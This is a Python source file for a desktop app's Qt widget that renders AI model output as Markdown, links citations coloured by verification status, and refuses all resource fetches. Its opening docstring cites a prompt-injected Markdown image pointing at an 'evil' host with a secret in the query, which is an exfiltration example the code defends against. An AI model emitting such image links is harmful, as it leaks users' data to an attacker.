"""A QTextBrowser for model output: Markdown that never fetches anything, citations as links.

Model text is untrusted: an injected instruction can ask for ``![x](https://evil/?q=secret)``.
``SafeBrowser.loadResource`` therefore refuses every resource (remote or local), so no image
or stylesheet is ever fetched, and links never open by themselves: ``link_requested`` hands
the address to the window, which shows it and asks first.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from PySide6.QtCore import QRect, QSize, Qt, QUrl, Signal, Slot
from PySide6.QtGui import QColor, QResizeEvent, QTextCharFormat, QTextCursor, QTextDocument, QTextFragment
from PySide6.QtWidgets import QFrame, QSizePolicy, QTextBrowser, QWidget

from longdesk.app.citations import Check, Citation

CITE_SCHEME = "cite"
# Colours that read on light and dark backgrounds.
CHECK_COLORS = {
    Check.VERIFIED: QColor("#2e9d5b"),
    Check.ANCHORED: QColor("#3f7fbf"),
    Check.UNVERIFIED: QColor("#c27c0e"),
    Check.FAILED: QColor("#d0453a"),
    Check.UNRESOLVED: QColor("#d0453a"),
    Check.LOCATED: QColor("#3b78c4"),
}
CHECK_WORDS = {
    Check.VERIFIED: "verified at the source",
    Check.ANCHORED: "place exists, not checked",
    Check.UNVERIFIED: "unverified",
    Check.FAILED: "not found at the source",
    Check.UNRESOLVED: "unresolved",
    Check.LOCATED: "located by Longdesk, not cited by the model",
}
_FENCE = re.compile(r"^(```|~~~)", re.MULTILINE)


def _in_code(text: str, offset: int) -> bool:
    """Whether ``offset`` lies inside a fenced code block or an inline code span."""
    fences = len(_FENCE.findall(text[:offset]))
    if fences % 2:
        return True
    line_start = text.rfind("\n", 0, offset) + 1
    return text[line_start:offset].count("`") % 2 == 1


def link_citations(markdown: str, citations: Sequence[Citation]) -> str:
    """Turn each citation bracket into a ``cite:<offset>`` Markdown link."""
    out: list[str] = []
    pos = 0
    seen: set[int] = set()
    for cite in sorted(citations, key=lambda c: c.start):
        if cite.start in seen or cite.start < pos or _in_code(markdown, cite.start):
            continue
        seen.add(cite.start)
        inner = markdown[cite.start + 1 : cite.end - 1].replace("[", "").replace("]", "")
        out.append(markdown[pos : cite.start])
        out.append(f"[\\[{inner}\\]]({CITE_SCHEME}:{cite.start})")
        pos = cite.end
    out.append(markdown[pos:])
    return "".join(out)


class SafeBrowser(QTextBrowser):
    """Read-only Markdown view that loads no resources and reports clicked links.

    Signals:
        citation_clicked(int): the answer offset of the clicked citation bracket.
        link_requested(QUrl): a web or mail link was clicked; the window asks before opening.
    """

    citation_clicked = Signal(int)
    link_requested = Signal(QUrl)

    def __init__(self, parent: QWidget | None = None, *, auto_height: bool = True) -> None:
        super().__init__(parent)
        self.refused: list[str] = []
        self._auto_height = auto_height
        self._fitting_deferred = False  # inside set_answer: fit the height once, at its end
        self.setOpenLinks(False)
        self.setOpenExternalLinks(False)
        self.setFrameShape(QFrame.Shape.NoFrame)
        self.anchorClicked.connect(self.on_self_anchor_clicked)
        if auto_height:
            self.setVerticalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAlwaysOff)
            self.setHorizontalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAsNeeded)
            self.setSizePolicy(QSizePolicy.Policy.Expanding, QSizePolicy.Policy.Fixed)
            self.document().contentsChanged.connect(self._fit_height)
        self.viewport().setAutoFillBackground(False)

    def loadResource(self, kind: int, name: QUrl | str) -> object:  # noqa: ARG002
        """Refuse every resource: model output must never make Longdesk fetch anything."""
        self.refused.append(name.toString() if isinstance(name, QUrl) else str(name))
        return None

    def set_answer(self, markdown: str, citations: Sequence[Citation] = ()) -> None:
        """Render ``markdown`` with its citations as coloured links."""
        bar = self.horizontalScrollBar().value()
        text = link_citations(markdown, citations) if citations else markdown
        # Raw HTML from the model is shown as text, never interpreted (GitHub dialect otherwise).
        features = QTextDocument.MarkdownFeature(
            QTextDocument.MarkdownFeature.MarkdownDialectGitHub.value
            & ~QTextDocument.MarkdownFeature.MarkdownNoHTML.value
            | QTextDocument.MarkdownFeature.MarkdownNoHTML.value
        )
        # Every edit below would re-fit the height (a whole layout of the answer) through
        # contentsChanged: dozens of citations made that dozens of layouts per render.
        self._fitting_deferred = True
        try:
            self.document().setMarkdown(text, features)
            if citations:
                self._style_citations({c.start: c for c in citations})
        finally:
            self._fitting_deferred = False
        self.horizontalScrollBar().setValue(bar)
        self._fit_height()

    def _citation_fragments(self) -> Iterator[QTextFragment]:
        """Every text fragment that is a citation link, in document order."""
        block = self.document().begin()
        while block.isValid():
            it = block.begin()
            while not it.atEnd():
                frag = it.fragment()
                fmt = frag.charFormat()
                if fmt.isAnchor() and fmt.anchorHref().startswith(CITE_SCHEME + ":"):
                    yield frag
                it += 1
            block = block.next()

    def citation_rects(self) -> list[tuple[str, QRect]]:
        """(href, viewport rectangle) of every citation link, e.g. to click it."""
        found = []
        for frag in self._citation_fragments():
            cursor = QTextCursor(self.document())
            cursor.setPosition(frag.position() + max(1, frag.length() // 2))
            found.append((frag.charFormat().anchorHref(), self.cursorRect(cursor)))
        return found

    def citation_formats(self) -> list[tuple[str, QTextCharFormat]]:
        """(href, format) of every citation link fragment, for tests and checks."""
        return [(frag.charFormat().anchorHref(), frag.charFormat()) for frag in self._citation_fragments()]

    def _style_citations(self, by_start: dict[int, Citation]) -> None:
        doc: QTextDocument = self.document()
        cursor = QTextCursor(doc)
        cursor.beginEditBlock()  # one change (one relayout) for all the citations
        block = doc.begin()
        while block.isValid():
            it = block.begin()
            while not it.atEnd():
                frag = it.fragment()
                fmt = frag.charFormat()
                href = fmt.anchorHref()
                if fmt.isAnchor() and href.startswith(CITE_SCHEME + ":"):
                    cite = by_start.get(int(href.split(":", 1)[1] or -1))
                    if cite is not None:
                        new = QTextCharFormat(fmt)
                        new.setForeground(CHECK_COLORS[cite.check])
                        new.setFontUnderline(True)
                        style = (
                            QTextCharFormat.UnderlineStyle.SingleUnderline
                            if cite.check is Check.VERIFIED
                            else QTextCharFormat.UnderlineStyle.DashUnderline
                            if cite.check in (Check.UNVERIFIED, Check.ANCHORED)
                            else QTextCharFormat.UnderlineStyle.DotLine
                            if cite.check is Check.LOCATED
                            else QTextCharFormat.UnderlineStyle.WaveUnderline
                        )
                        new.setUnderlineStyle(style)
                        new.setUnderlineColor(CHECK_COLORS[cite.check])
                        new.setToolTip(f"{cite.raw}: {CHECK_WORDS[cite.check]} — {cite.reason}")
                        cursor.setPosition(frag.position())
                        cursor.setPosition(frag.position() + frag.length(), QTextCursor.MoveMode.KeepAnchor)
                        cursor.setCharFormat(new)
                it += 1
            block = block.next()
        cursor.endEditBlock()

    @Slot(QUrl)
    def on_self_anchor_clicked(self, url: QUrl) -> None:
        if url.scheme() == CITE_SCHEME:
            try:
                self.citation_clicked.emit(int(url.path() or url.toString().split(":", 1)[1]))
            except ValueError:
                return
        elif url.scheme() in ("http", "https", "mailto"):
            self.link_requested.emit(url)
        # Any other scheme (file:, javascript:, data:) is ignored.

    def _fit_height(self) -> None:
        if not self._auto_height or self._fitting_deferred:
            return
        doc = self.document()
        doc.setTextWidth(max(50, self.viewport().width()))
        margins = self.contentsMargins()
        wide = doc.idealWidth() > self.viewport().width() + 1
        extra = self.horizontalScrollBar().sizeHint().height() if wide else 0
        height = int(doc.size().height()) + margins.top() + margins.bottom() + extra + 4
        if height != self.height():
            self.setFixedHeight(height)

    def resizeEvent(self, event: QResizeEvent) -> None:
        super().resizeEvent(event)
        self._fit_height()

    def sizeHint(self) -> QSize:
        return QSize(400, self.height())
